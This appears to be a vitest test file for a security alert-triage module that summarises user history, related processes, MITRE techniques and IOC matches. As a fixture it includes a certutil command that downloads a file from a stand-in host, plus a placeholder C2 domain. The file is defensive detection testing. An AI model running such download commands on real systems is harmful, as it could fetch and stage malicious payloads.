import { describe, expect, it } from 'vitest';
import { alertToEcs, IocList } from '../../../src/alert/index.ts';
import { openDesk, startAt } from '../../support/incident.ts';

const named = (name: string, commandLine: string = name) => ({
  process: { name, executable: `C:\\x\\${name}`, commandLine },
});

describe('triage', () => {
  it('tells what the user did before, what ran beside, and what was installed', () => {
    const { take, alerts } = openDesk();
    for (const pid of [20, 21, 22]) take(startAt(0, pid, 1, named('excel.exe')), 0.01);
    take(startAt(1, 23, 1, named('setup.exe')), 0.01);
    take(startAt(2, 24, 5, named('whoami.exe')), 0.9);
    take(startAt(5, 25, 5, named('certutil.exe', 'certutil -urlcache -f http://x.example/y z')), 0.99);
    const triage = alerts.at(-1)?.triage;
    expect(triage?.user).toMatchObject({ starts: 5, earlierAlerts: 1, startsOfProcess: 0 });
    expect(triage?.user.usualProcesses[0]).toEqual({ name: 'excel.exe', count: 3 });
    expect(triage?.siblings.shown.map(({ eventId }) => eventId)).toEqual(['event-24']);
    expect(triage?.cluster.shown.map(({ eventId }) => eventId)).toEqual(['event-24', 'event-25']);
    expect(triage?.installers.map(({ name }) => name)).toEqual(['setup.exe']);
    expect(triage?.techniques.map(({ id }) => id)).toEqual(['T1033', 'T1105']);
    expect(triage?.facts.map(({ binary }) => binary)).toContain('certutil.exe');
    expect(triage?.checks.join('\n')).toContain('certutil.exe: Find the file that it wrote');
    expect(triage?.actions.at(-1)).toContain(`exceptions suggest ${alerts.at(-1)?.id}`);
  });

  it('says that a user was never seen before', () => {
    const { take, alerts } = openDesk();
    take(startAt(0, 20, 1, named('evil.exe')), 0.99);
    expect(alerts[0]?.triage?.user.firstSeenMs).toBeUndefined();
    expect(alerts[0]?.triage?.checks[0]).toContain('never seen on WS-0417 before');
  });

  it('tells what the parent did on the network, and what of it is on a list', () => {
    const list = new IocList([{ type: 'domain', value: 'evil.example', list: 'ours.txt', note: undefined }]);
    const { desk, take, alerts } = openDesk({ iocs: () => list });
    const parent = startAt(0, 20, 1, named('a.exe'));
    take(parent, 0.6);
    const { id, timeMs, timestamp, provider, position, host, user } = parent;
    const reference = { id, timeMs, timestamp, provider, position, host, user };
    const process = { pid: 20, entityId: 'p20', executable: undefined };
    desk.takeActivity(
      { kind: 'dns', ...reference, ...process, question: 'c2.evil.example', answers: [] },
      'p20',
    );
    take(startAt(1, 21, 20, named('b.exe')), 0.99);
    const triage = alerts.at(-1)?.triage;
    expect(triage?.network).toEqual([
      {
        entityId: 'p20',
        process: 'a.exe',
        connections: [],
        questions: [{ name: 'c2.evil.example', answers: [], count: 1 }],
        further: 0,
      },
    ]);
    expect(triage?.iocs.map(({ indicator }) => indicator.value)).toEqual(['evil.example']);
    expect(triage?.actions[0]).toContain('off the network');
    expect(JSON.parse(JSON.stringify(alertToEcs(alerts.at(-1)!))).problemchild.triage.iocs[0]).toMatchObject({
      value: 'evil.example',
      list: 'ours.txt',
      field: 'dns.question.name',
    });
  });

  it('cuts long command lines', () => {
    const { take, alerts } = openDesk();
    take(startAt(0, 20, 1, named('a.exe', `a.exe ${'x'.repeat(50_000)}`)), 0.99);
    expect(alerts[0]?.triage?.cluster.shown[0]?.line?.length).toBeLessThanOrEqual(400);
  });
});
